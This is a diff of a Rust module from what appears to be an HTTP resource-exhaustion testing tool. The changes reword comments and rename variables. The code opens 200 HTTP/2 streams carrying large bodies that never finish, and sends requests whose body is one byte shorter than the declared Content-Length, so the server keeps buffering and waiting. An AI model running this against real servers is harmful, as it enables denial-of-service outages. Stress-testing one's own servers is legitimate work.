@@ -1,5 +1,5 @@
-//! Bodies that are there but for their end: the server has to keep them while it waits. Over HTTP/2 there are many of them on
-//! one connection.
+//! Request bodies whose end never arrives: the server has to buffer them while it waits. Over HTTP/2, there are many of
+//! them on one connection.
 
 use std::io;
 use std::sync::LazyLock;
@@ -12,9 +12,9 @@ use tokio::time::sleep;
 use super::target::Attacker;
 use super::wire::{self, Request};
 
-/// Just what a body may have, without its end.
+/// Just below the maximum size of a body.
 const LENGTH: usize = 255 * 1024;
-/// Streams that are asked for on one connection.
+/// Streams of one connection.
 const STREAMS: usize = 200;
 
 static BODY: LazyLock<Bytes> = LazyLock::new(|| format!("{{\"query\":\"{}", " ".repeat(LENGTH)).into());
@@ -36,17 +36,17 @@ async fn streams(attacker: &Attacker, request: Request) -> io::Result<()> {
     let mut client = wire::http2(attacker.target.address, 65_535).await?;
     let mut open = Vec::new();
     for _ in 0..STREAMS {
-        let (again, answer, mut stream) = wire::begin(client, &request).await?;
-        client = again;
+        let (sender, response, mut stream) = wire::send_head(client, &request).await?;
+        client = sender;
         stream.send_data(request.body.clone(), false).map_err(io::Error::other)?;
-        open.push((tokio::spawn(answer), stream));
+        open.push((tokio::spawn(response), stream));
         attacker.target.tally.count("unfinished streams");
     }
-    // Until the server gives up.
+    // Until the server has responded to all of them.
     loop {
         sleep(Duration::from_millis(100)).await;
         client = client.ready().await.map_err(io::Error::other)?;
-        open.retain(|(answer, _)| !answer.is_finished());
+        open.retain(|(response, _)| !response.is_finished());
         if open.is_empty() {
             return Ok(());
         }
@@ -55,7 +55,7 @@ async fn streams(attacker: &Attacker, request: Request) -> io::Result<()> {
 
 async fn connection(attacker: &Attacker, request: &Request) -> io::Result<()> {
     let mut stream = wire::connect(attacker.target.address, None).await?;
-    // It says that it has one byte more than there is.
+    // The body is one byte shorter than its Content-Length.
     let mut bytes = request.bytes("keep-alive");
     bytes.pop();
     stream.write_all(&bytes).await?;
